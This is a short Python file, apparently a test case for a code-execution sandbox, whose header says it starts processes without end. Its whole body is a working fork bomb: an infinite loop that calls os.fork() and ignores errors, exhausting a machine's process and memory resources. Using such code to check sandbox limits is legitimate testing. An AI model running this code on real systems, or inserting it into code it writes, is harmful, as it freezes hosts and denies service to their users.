# Start processes without end.
# ends: any
# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
